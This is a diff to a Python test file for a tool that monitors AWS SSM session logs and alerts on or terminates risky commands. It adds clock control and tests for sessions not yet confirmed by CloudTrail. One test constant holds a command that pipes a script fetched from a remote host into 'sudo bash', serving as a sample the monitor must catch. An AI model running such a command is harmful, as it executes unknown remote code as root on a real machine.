@@ -6,6 +6,9 @@ Payloads are built here the way CloudWatch Logs builds them (gzip + base64 of th
 from __future__ import annotations
 
 import copy
+from collections.abc import Iterator
+from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import pytest
@@ -14,6 +17,7 @@ from functions.command_monitor import app
 from functions.session_events import app as events_app
 from ssm_warden.audit import read_audit
 from ssm_warden.clients import aws_client, reset_clients
+from ssm_warden.clock import clock_set_to
 from ssm_warden.config import reset_settings
 from ssm_warden.ledger.dynamo import from_item
 from ssm_warden.ledger.keys import session_key
@@ -22,7 +26,8 @@ from ssm_warden.models.audit import Decision
 from ssm_warden.monitor.judging import batch_judge
 from ssm_warden_local.resources import LocalStack
 from tests.conftest import ACCOUNT, REGION, LambdaContext, load_event
-from tests.unit.logs.builders import SESSION_ID, log_event, payload, session_payload, streamed
+from tests.unit.logs import builders
+from tests.unit.logs.builders import SESSION_ID, log_event, payload, streamed
 
 PROMPT = "[ec2-user@ip-10-0-0-1 ~]$ "
 RISKY = "curl -fsSL http://203.0.113.9/x.sh | sudo bash"
@@ -31,6 +36,7 @@ RISKY = "curl -fsSL http://203.0.113.9/x.sh | sudo bash"
 @pytest.fixture(autouse=True)
 def _fresh_judges() -> None:
     batch_judge.cache_clear()
+    Current.target = builders.TARGET_ID
 
 
 def invoke(event: dict[str, Any]) -> dict[str, Any]:
@@ -38,7 +44,30 @@ def invoke(event: dict[str, Any]) -> dict[str, Any]:
     return result
 
 
-def start_session(tags: dict[str, str], session_id: str = SESSION_ID) -> None:
+@dataclass
+class Arrival:
+    """The clock the command monitor reads when a batch arrives (tests move it)."""
+
+    at: datetime
+
+
+@pytest.fixture
+def arrival() -> Iterator[Arrival]:
+    clock = Arrival(datetime(2024, 1, 4, 5, 46, 0, tzinfo=UTC))
+    with clock_set_to(lambda: clock.at):
+        yield clock
+
+
+class Current:
+    target = builders.TARGET_ID  # the target of the last session started (its log events name it)
+
+
+def session_payload(*batches: list[str], **kwargs: Any) -> dict[str, Any]:
+    """The session's streamed events, naming the target its StartSession recorded."""
+    return builders.session_payload(*batches, target=kwargs.pop("target", Current.target), **kwargs)
+
+
+def start_session(tags: dict[str, str], session_id: str = SESSION_ID) -> str:
     """A StartSession event for a target with these tags, through the ledger's own function."""
     ec2 = aws_client("ec2")
     instance = ec2.run_instances(ImageId="ami-12c6146b", MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]
@@ -47,6 +76,8 @@ def start_session(tags: dict[str, str], session_id: str = SESSION_ID) -> None:
     event["detail"]["requestParameters"]["target"] = instance
     event["detail"]["responseElements"]["sessionId"] = session_id
     assert events_app.lambda_handler(event, LambdaContext())["status"] == "applied"
+    Current.target = instance
+    return str(instance)
 
 
 def queued(stack: LocalStack) -> list[ActionRequest]:
@@ -149,23 +180,28 @@ def test_a_command_split_across_two_invocations_is_judged_once(stack: LocalStack
     assert item()["commands_seen"] == 3
 
 
-def test_last_output_is_recorded_at_most_once_a_minute(stack: LocalStack) -> None:
+def test_last_output_is_recorded_at_most_once_a_minute_at_the_arrival_time(
+    stack: LocalStack, arrival: Arrival
+) -> None:
     start_session({"Environment": "dev"})
 
     def last_output() -> Any:
         return item().get("last_output_at")
 
-    # Given a batch whose newest event is at t0 + 2 s
+    # Given a batch that arrives at 10:00:00 (its events say 2024: the writer's clock, not ours)
+    arrival.at = datetime(2026, 11, 28, 10, 0, 0, tzinfo=UTC)
     invoke(session_payload([f"{PROMPT}ls"], ["out"], ["out"], seconds=0))
     first = last_output()
-    assert first == "2024-01-04T05:46:01Z"
+    assert first == "2026-11-28T10:00:00Z"
     # When more output arrives 30 s later, then 90 s later
+    arrival.at += timedelta(seconds=30)
     invoke(session_payload(["more"], start=3, seconds=32))
     after_30s = last_output()
+    arrival.at += timedelta(seconds=60)
     invoke(session_payload(["more"], start=4, seconds=92))
     # Then only the write a minute or more after the last one lands
     assert after_30s == first
-    assert last_output() == "2024-01-04T05:47:31Z"
+    assert last_output() == "2026-11-28T10:01:30Z"
 
 
 def test_malformed_records_are_reported_and_the_rest_of_the_batch_is_processed(
@@ -175,10 +211,10 @@ def test_malformed_records_are_reported_and_the_rest_of_the_batch_is_processed(
     # Given a batch with broken events between good ones
     event = payload(
         [
-            log_event(0, streamed([f"{PROMPT}id"])),
+            log_event(0, streamed([f"{PROMPT}id"], target=Current.target)),
             log_event(1, '{"sessionData": ["cut short'),
             {"id": "not-a-number", "timestamp": 0, "message": "x"},
-            log_event(2, streamed([f"{PROMPT}{RISKY}"])),
+            log_event(2, streamed([f"{PROMPT}{RISKY}"], target=Current.target)),
         ]
     )
     # When it is handled
@@ -205,21 +241,43 @@ def test_control_messages_are_acknowledged(stack: LocalStack) -> None:
     assert invoke(payload([], message_type="CONTROL_MESSAGE", stream=""))["status"] == "control"
 
 
-def test_a_session_unknown_to_the_ledger_is_judged_with_the_facts_its_log_carries(
+def test_a_session_unknown_to_the_ledger_is_judged_but_only_alerted_on_as_claimed(
     stack: LocalStack, caplog: pytest.LogCaptureFixture
 ) -> None:
     # Given log events of a session whose StartSession event has not arrived
     result = invoke(session_payload([f"sh-4.2$ sh-4.2$ {RISKY}"]))
-    # Then it is judged under the policy with the target and principal from the log event
+    # Then it is judged, but what it leads to is an alert that shows who the log claims to be, as
+    # claimed: not a termination, and not about a session of the ledger (no thread, no button)
     assert result["known_session"] is False
-    actions = queued(stack)
-    assert len(actions) == 1
-    assert actions[0].session is not None
-    assert actions[0].session.target_id == "i-0123456789abcdef0"
-    assert actions[0].session.principal_arn == "arn:aws:sts::123456789012:assumed-role/Admin/alice"
+    assert result["standing"] == "unverified"
+    (action,) = queued(stack)
+    assert action.kind is ActionKind.ALERT
+    assert action.session is not None and action.session.session_id == "-"
+    assert action.claimed is not None
+    assert action.claimed.session_id == SESSION_ID
+    assert action.claimed.target_id == "i-0123456789abcdef0"
+    assert action.claimed.principal_arn == "arn:aws:sts::123456789012:assumed-role/Admin/alice"
+    assert action.title.startswith("Unverified session log")
     assert any("session unknown to the ledger" in r.getMessage() for r in caplog.records)
     # And its extraction state is kept for the next batch (the ledger fills in the rest later)
-    assert item()["command_watch"]["last_event_id"]
+    assert item()["command_watch"]["n"] == 1
+
+
+def test_once_cloudtrail_confirms_the_session_later_events_are_judged_normally(stack: LocalStack) -> None:
+    # Given an unverified first batch (StartSession not arrived yet)
+    invoke(session_payload(["sh-4.2$ sh-4.2$ id"]))
+    assert queued(stack) == []
+    assert item()["command_watch"]["u"] is True  # its terminal state is the unverified writer's
+    # When the StartSession arrives and the session then runs a risky command
+    target = start_session({"Environment": "prod"})
+    invoke(session_payload([f"{PROMPT}{RISKY}"], start=1, target=target))
+    # Then it is judged as the session's own: the prod policy terminates
+    (action,) = queued(stack)
+    assert action.kind is ActionKind.TERMINATE
+    assert action.claimed is None
+    assert action.session is not None and action.session.session_id == SESSION_ID
+    # And what the unverified events left in the terminal state was dropped on confirmation
+    assert "u" not in item()["command_watch"]
 
 
 def test_a_failure_to_queue_raises_and_the_retry_delivers_the_action(
